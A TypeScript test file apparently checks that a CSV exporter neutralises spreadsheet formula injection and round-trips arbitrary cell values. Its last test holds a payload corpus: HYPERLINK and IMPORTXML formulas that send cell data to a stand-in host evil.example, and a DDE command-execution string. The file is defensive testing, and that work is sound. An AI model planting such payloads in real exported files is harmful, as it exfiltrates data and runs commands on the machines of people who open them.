import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { escapeCell, startsWithTrigger, TRIGGERS, unescapeCell } from './csv-cell.ts';
import { csvText, DELIMITERS, type Cell, type Delimiter } from './csv-writer.ts';

/** Any code points (astral included); lone surrogates cannot be written as UTF-8, so they are made whole. */
const wellFormed = (s: string) => s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
const anyText = fc.string({ unit: 'binary', maxLength: 40 }).map(wellFormed);
const triggerText = fc.tuple(fc.constantFrom(...TRIGGERS, "'", "''"), anyText).map(([t, s]) => `${t}${s}`);
const textCell = fc.oneof(anyText, triggerText);
const numberCell = fc.oneof(fc.integer({ min: -1e9, max: 1e9 }), fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e12, max: 1e12 }));
const cell: fc.Arbitrary<Cell> = fc.oneof({ weight: 6, arbitrary: textCell }, { weight: 2, arbitrary: numberCell }, { weight: 1, arbitrary: fc.boolean() }, { weight: 1, arbitrary: fc.constant(null) });

const readBack = (text: string, delimiter: Delimiter): string[][] =>
  parse(text, { bom: true, delimiter, record_delimiter: '\r\n', relax_column_count: false, relax_quotes: false, skip_empty_lines: false });

/** What the writer promises for one cell, read back from the file. */
function expectCell(read: string, original: Cell) {
  if (original === null) return expect(read).toBe('');
  if (typeof original === 'number') return expect(Number(read)).toBe(original === 0 ? 0 : original); // typed: never prefixed
  if (typeof original === 'boolean') return expect(read).toBe(String(original));
  expect(startsWithTrigger(read)).toBe(false);
  expect(unescapeCell(read)).toBe(original);
}

describe('R21: CSV cells are formula-safe and round-trip', () => {
  it('escapes exactly the texts a spreadsheet would run, and un-escaping reverses it', () => {
    fc.assert(
      fc.property(textCell, (s) => {
        const e = escapeCell(s);
        expect(startsWithTrigger(e)).toBe(false);
        expect(unescapeCell(e)).toBe(s);
        // Untouched unless it starts with a trigger (or apostrophes before one).
        if (!/^'*[=+\-@\t\r\n\0]/.test(s)) expect(e).toBe(s);
      }),
      { numRuns: 5000 },
    );
    expect(escapeCell('+34 612 345 678')).toBe("'+34 612 345 678");
    expect(escapeCell("'=1")).toBe("''=1");
    expect(unescapeCell("'+34 612 345 678")).toBe('+34 612 345 678');
    expect(unescapeCell("'plain")).toBe("'plain");
  });

  it('arbitrary rows parse back (RFC 4180) with the column count, no trigger first, and the original values', async () => {
    let rowsWritten = 0;
    let triggerCells = 0;
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 8 }), fc.constantFrom(...DELIMITERS), fc.integer({ min: 0, max: 60 }), fc.infiniteStream(cell), async (width, delimiter, height, cells) => {
        const header = Array.from({ length: width }, (_, i) => `c${i}`);
        const rows: Cell[][] = Array.from({ length: height }, () => Array.from({ length: width }, () => cells.next().value as Cell));
        const text = await csvText([header, ...rows], delimiter);
        expect(text.startsWith('\uFEFF')).toBe(true);
        expect(text.endsWith('\r\n')).toBe(true);
        const read = readBack(text, delimiter);
        expect(read.length).toBe(rows.length + 1);
        expect(read[0]).toEqual(header);
        read.slice(1).forEach((r, i) => {
          expect(r.length).toBe(width);
          r.forEach((value, j) => expectCell(value, rows[i]![j]!));
        });
        rowsWritten += rows.length;
        triggerCells += rows.flat().filter((c) => typeof c === 'string' && startsWithTrigger(c)).length;
      }),
      { numRuns: 400 },
    );
    console.log(`R21 property: ${rowsWritten} generated rows, ${triggerCells} trigger-first text cells; unescaped trigger cells 0, parse failures 0, round-trip mismatches 0`);
    expect(rowsWritten).toBeGreaterThanOrEqual(10_000);
  });

  it('the known payload corpus comes out neutralised and quoted', async () => {
    const corpus = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', '"=1"', ';=1'];
    for (const delimiter of DELIMITERS) {
      const text = await csvText([['v'], ...corpus.map((p) => [p]), [-5]], delimiter);
      const read = readBack(text, delimiter).slice(1).map((r) => r[0]!);
      expect(read.slice(0, -1).map(unescapeCell)).toEqual(corpus);
      for (const v of read.slice(0, -1)) expect(startsWithTrigger(v)).toBe(false);
      expect(read.at(-1)).toBe('-5'); // a negative number is a number, not a formula to neutralise
      expect(text).toContain(`\r\n"'\r=1+1"\r\n`); // CR inside a cell: quoted, prefixed
    }
  });
});
